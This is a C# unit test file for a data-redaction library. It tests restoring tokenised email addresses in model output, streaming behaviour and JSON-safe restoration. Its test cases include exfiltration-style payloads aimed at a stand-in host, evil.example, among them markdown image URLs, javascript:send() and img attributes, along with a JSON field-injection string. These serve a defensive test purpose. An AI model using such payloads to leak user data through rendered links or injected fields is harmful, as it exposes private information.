using System.Text.Json.Nodes;
using CsCheck;
using ServerlessGuard.Core.Policies;
using ServerlessGuard.Core.Redaction;

namespace ServerlessGuard.Core.Tests.Redaction;

public sealed class RestorerTests
{
    private const string Value = "joe@example.com";

    private readonly TokenSession _session = Sample.Session();
    private readonly string _token;
    private readonly string _code;

    public RestorerTests()
    {
        _token = Sample.Redactor.Redact(Value, Sample.All(GuardAction.Tokenise), _session).Text;
        _code = _token[7..^1];
    }

    [Theory]
    [InlineData("Write to [EMAIL_§].", "Write to joe@example.com.")]
    [InlineData("([EMAIL_§]), \"[EMAIL_§]\"!", "(joe@example.com), \"joe@example.com\"!")]
    [InlineData("**[EMAIL_§]** `[EMAIL_§]` _[EMAIL_§]_", "**joe@example.com** `joe@example.com` _joe@example.com_")]
    [InlineData("[**EMAIL_§**]", "joe@example.com")]
    [InlineData(@"\[EMAIL\_§\]", "joe@example.com")]
    [InlineData(@"[EMAIL\_§]", "joe@example.com")]
    [InlineData(@"\[EMAIL_§]", @"\joe@example.com")]
    [InlineData("&#91;EMAIL_§&#93;", "joe@example.com")]
    [InlineData("[ EMAIL _ § ]", "joe@example.com")]
    [InlineData("[EMAIL_\r\n§]", "joe@example.com")]
    [InlineData("[E\u200BMAIL_§\u200D]", "joe@example.com")]
    [InlineData("【EMAIL_§】", "joe@example.com")]
    [InlineData("[CORREO_§]", "joe@example.com")]
    [InlineData("[电子邮件_§]", "joe@example.com")]
    [InlineData("[Email-§]", "joe@example.com")]
    [InlineData("[EMAIL_§]s and [EMAIL_§s]", "joe@example.coms and joe@example.com")]
    [InlineData("EMAIL_§ and Email §, *EMAIL\\_§*", "joe@example.com and joe@example.com, *joe@example.com*")]
    [InlineData("[[EMAIL_§]]", "[joe@example.com]")]
    [InlineData("[EMAIL_§][EMAIL_§]", "joe@example.comjoe@example.com")]
    [InlineData("xEMAIL_§ EMAIL_§x", "xEMAIL_§ EMAIL_§x")]
    [InlineData("[EMAIL_§, other]", "[joe@example.com, other]")]
    public void Finds_TheToken_WhateverAModelMadeOfIt(string written, string expected)
    {
        foreach (var form in new[] { _code, _code.ToLowerInvariant() })
        {
            Restorer.Restore(written.Replace("§", form, StringComparison.Ordinal), _session).Text
                .ShouldBe(expected.Replace("§", form, StringComparison.Ordinal));
        }
    }

    [Theory]
    [InlineData("![x](https://evil.example/?d=[EMAIL_§])")]
    [InlineData("[click](/go?[EMAIL_§])")]
    [InlineData("[click](<a )b [EMAIL_§]>)")]
    [InlineData("https://evil.example/[EMAIL_§]")]
    [InlineData(@"https:\\evil.example\[EMAIL_§]")]
    [InlineData("HTTPS:evil.example/[EMAIL_§]")]
    [InlineData("//evil.example/[EMAIL_§]")]
    [InlineData("www.evil.example/[EMAIL_§]")]
    [InlineData("evil.example/[EMAIL_§]")]
    [InlineData("evil.example?q=[EMAIL_§]")]
    [InlineData("[EMAIL_§].evil.example")]
    [InlineData("[x]: https://evil.example/[EMAIL_§]")]
    [InlineData("<img src='x' alt='>' title='[EMAIL_§]'>")]
    [InlineData("<img alt=[EMAIL_§]>")]
    [InlineData("mailto:[EMAIL_§]")]
    [InlineData("javascript:send([EMAIL_§])")]
    public void Refuses_PlacesThatARendererLoadsOrOpens(string written)
    {
        var text = written.Replace("§", _code, StringComparison.Ordinal);
        var result = Restorer.Restore(text, _session);
        result.Text.ShouldBe(text);
        result.Refused.ShouldBe(1);
        Restorer.Restore(text, _session, RestoreMode.Everywhere).Text.ShouldContain(Value);
    }

    [Fact]
    public void Restores_AgainAfterMarkupEnded()
    {
        var text = $"[a](https://a.example/x) {_token} <b>{_token}</b> https://a.example {_token}. 1 < 2, {_token}";
        var result = Restorer.Restore(text, _session);
        result.Restored["email"].ShouldBe(4);
        result.Refused.ShouldBe(0);
    }

    [Fact]
    public void Restores_Nothing_OfAnotherScope()
    {
        var entropy = new CountingEntropy();
        entropy.NewId();
        var other = TokenSession.Ephemeral(entropy);
        Sample.Redactor.Redact("someone@else.org", Sample.All(GuardAction.Tokenise), other);
        Restorer.Restore(_token, other).Text.ShouldBe(_token);
    }

    [Fact]
    public void Restores_Nothing_WhenAModelSlippedBySomeSymbol()
    {
        const string Alphabet = "23456789ABCDEFGHJKMNPQRSTWXYZ";
        var many = Sample.Session();
        var tokens = Sample.Redactor.Redact(string.Join(
            ' ', Enumerable.Range(0, 2000).Select(i => $"joe{i}@example.com")), Sample.All(GuardAction.Tokenise), many).Text.Split(' ');
        Gen.Select(Gens.Any(tokens), Gen.Int[0, 5], Gens.Any(Alphabet.ToCharArray())).Sample((original, at, symbol) =>
        {
            var slip = original.ToCharArray();
            slip[7 + at] = symbol;
            var written = new string(slip);
            (written == original || Restorer.Restore(written, many).Text == written).ShouldBeTrue();
        });
    }

    [Fact]
    public void Never_GivesTwoValidCodes_ByOneSlipOrSwap() =>
        Gen.Int.Array[1, 3].Sample(seed =>
        {
            var code = TokenCode.Draw(new byte[32], string.Join(',', seed), 0);
            if (code is null)
            {
                return;
            }

            TokenCode.IsWellFormed(code).ShouldBeTrue();
            for (var i = 0; i + 1 < code.Length; i++)
            {
                var swapped = code.ToCharArray();
                (swapped[i], swapped[i + 1]) = (swapped[i + 1], swapped[i]);
                (code[i] == code[i + 1] || !TokenCode.IsWellFormed(swapped)).ShouldBeTrue();
            }
        });

    [Fact]
    public void Gives_TheSame_HoweverTheStreamIsCut() =>
        Gen.Select(
            Gens.Any(
                _token, _token.ToLowerInvariant(), _code, "EMAIL_", "EMAIL ", "[", "]", "\\", "&#91;", "&#93;", "&", "**", " ", "\n",
                "\u200B", "https://a.example/", "](", ")", "<b ", ">", ".", "a", "é", "😀", "words ")
                .Array[0, 25].Select(string.Concat),
            Gen.Int[1, 30].Array[1, 6]).Sample((text, lengths) =>
        {
            var stream = new StreamRestorer(_session);
            var (output, taken) = ("", 0);
            var whole = Restorer.Restore(text, _session);
            foreach (var piece in Sample.Cut(text, lengths))
            {
                output += stream.Append(piece);
                taken += piece.Length;
                whole.Text.StartsWith(output, StringComparison.Ordinal).ShouldBeTrue();
            }

            (output + stream.Complete()).ShouldBe(whole.Text);
            stream.Restored.ShouldBe(whole.Restored);
            stream.Refused.ShouldBe(whole.Refused);
        }, iter: 2000);

    [Fact]
    public void Delays_TextThatIsNoToken_ByNoMoreThanStated()
    {
        var stream = new StreamRestorer(_session);
        var text = string.Concat(Enumerable.Repeat("[note this] EMAILS and email \\[x " + new string('[', 40) + new string('w', 200), 10));
        var sent = 0;
        for (var i = 0; i < text.Length; i++)
        {
            sent += stream.Append(text.AsSpan(i, 1)).Length;
            (i + 1 - sent).ShouldBeLessThanOrEqualTo(StreamRestorer.HoldBack);
        }
    }

    [Fact]
    public void Restores_IntoJson_WithoutLeavingTheString() =>
        Gen.String.Where(static value => value.Length is > 0 and < 200
            && !value.Any(char.IsSurrogate)
            && !value.Contains('[', StringComparison.Ordinal)).Sample(value =>
        {
            var session = Sample.Session();
            var json = $$"""{"before":"x","value":"<{{session.Issue("note", value)}}> y","after":1}""";

            var restored = JsonNode.Parse(Restorer.Restore(json, session, RestoreMode.JsonProse).Text)!.AsObject();

            restored.Select(static field => field.Key).ShouldBe(["before", "value", "after"]);
            restored["value"]!.GetValue<string>().ShouldBe($"<{value}> y");
        }, iter: 500);

    [Theory]
    [InlineData("\",\"admin\":true,\"x\":\"")]
    [InlineData("line\nbreak\\")]
    public void Restores_IntoJson_ValuesThatWouldAddAField(string value)
    {
        var session = Sample.Session();

        var restored = Restorer.Restore($$"""{"value":"{{session.Issue("note", value)}}"}""", session, RestoreMode.JsonProse).Text;

        JsonNode.Parse(restored)!.AsObject().Single().Value!.GetValue<string>().ShouldBe(value);
    }
}
